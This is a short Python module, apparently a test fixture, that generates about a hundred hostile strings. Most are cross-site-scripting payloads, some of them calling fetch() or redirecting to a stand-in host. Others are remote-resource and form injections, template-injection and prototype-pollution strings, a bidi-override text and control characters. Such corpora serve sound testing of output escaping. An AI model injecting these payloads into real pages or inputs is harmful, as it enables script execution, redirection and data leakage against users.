"""A hundred texts that would run, fetch or break out somewhere, if a screen took them for more than text."""

from __future__ import annotations

_ELSEWHERE = "https://elsewhere.example"
_CALLS = ("alert(1)", f"fetch('{_ELSEWHERE}')", "document.title='x'", "top.location='//elsewhere.example'")
_FORMS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    '"><img src=x onerror="{call}">',
    "'><svg/onload='{call}'>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</option></select><img src=x onerror={call}>",
    "</script><script>{call}</script>",
    "</style><script>{call}</script>",
    '" onfocus="{call}" autofocus="',
    "' onmouseover='{call}' x='",
    "javascript:{call}",
    "[klik](javascript:{call})",
    "<a href=javascript:{call}>klik</a>",
    "<details open ontoggle={call}>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<body onload={call}>",
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<!--><script>{call}</script>-->",
    "<math><mtext><img src=x onerror={call}>",
)
_OTHERS = (
    f"<img src={_ELSEWHERE}/x.png>",
    f"![x]({_ELSEWHERE}/x.png)",
    f"<link rel=stylesheet href={_ELSEWHERE}/x.css>",
    f"<form action={_ELSEWHERE}><button>OK</button></form>",
    f"<base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<object data={_ELSEWHERE}></object>",
    f"<style>@import '{_ELSEWHERE}/x.css';</style>",
    "__proto__ constructor toString",
    "\u202etxet nruter\u202c",
    "a\u0000b\u0007c",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
HOSTILE = (*(form.format(call=call) for call in _CALLS for form in _FORMS), *_OTHERS)
